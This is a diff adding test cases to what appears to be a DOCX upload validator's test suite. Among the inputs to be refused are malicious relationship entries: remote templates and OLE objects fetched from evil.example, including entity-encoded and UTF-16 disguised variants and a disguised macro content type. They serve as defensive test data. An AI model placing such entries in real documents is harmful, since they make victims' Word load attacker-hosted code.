@@ -30,6 +30,13 @@ const noise = (bytes: number) => {
 const [types = { name: '' }, ...others] = DOCX_PARTS
 const TEMPLATE = 'application/vnd.ms-word.document.macroEnabled.main+xml'
 
+/** A DOCX that belongs together with something: by type, and where it is. */
+const related = (type: string, target: string, write = (xml: string): string | Buffer => xml) => {
+  const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`
+  const xml = `<Relationships><Relationship Id=">" TargetMode="External" Type="${kind}" Target="${target}"/></Relationships>`
+  return docx([{ name: 'word/_rels/settings.xml.rels', data: write(xml) }])
+}
+
 describe('what is taken', () => {
   test.each([
     ['a PDF', pdf(), 'pdf'],
@@ -44,6 +51,10 @@ describe('what is taken', () => {
       ),
       'docx',
     ],
+    ['a DOCX with a link', related('hyperlink', 'https://www.example.org/'), 'docx'],
+    ['a DOCX made from a template', related('attachedTemplate', 'file:///C:\\Users\\an\\Normal.dotm'), 'docx'],
+    ['a DOCX made from a template beside it', related('attachedTemplate', 'C:\\Normal.dotm'), 'docx'],
+    ['a DOCX with a sheet in it', related('package', 'embeddings/sheet.xlsx'), 'docx'],
     [
       'a DOCX that unpacks to 49 MB',
       docx(
@@ -90,6 +101,21 @@ describe('what is refused', () => {
     ['a DOCX with bytes behind it', Buffer.concat([docx(), Buffer.from('more')])],
     ['macros by name', docx([{ name: 'word/vbaProject.bin', data: 'x' }])],
     ['macros by type', archive([{ ...types, data: `${types.data}<Override ContentType="${TEMPLATE}"/>` }, ...others])],
+    [
+      'macros by type, in disguise',
+      archive([
+        { ...types, data: `${types.data}<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>` },
+        ...others,
+      ]),
+    ],
+    ['a template from the web', related('attachedTemplate', 'https://evil.example/x.dotm')],
+    ['a template from the web, in disguise', related('attachedTempl&#x61;te', '&#104;ttps://evil.example/x.dotm')],
+    [
+      'a template from the web, in UTF-16',
+      related('attachedTemplate', 'https://evil.example/', (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
+    ],
+    ['an object from the web', related('oleObject', 'mhtml:https://evil.example/x!x')],
+    ['more relations than any document has', related('hyperlink', 'https://a/', (xml) => xml + noise(1.1 * MEGABYTE))],
     ['controls that run', docx([{ name: 'word/activeX/activeX1.xml', data: 'x' }])],
     ['an encrypted entry', docx([{ name: 'word/a.xml', data: 'x', flags: 1 }])],
     ['a strongly encrypted entry', docx([{ name: 'word/a.xml', data: 'x', flags: 0x41 }])],
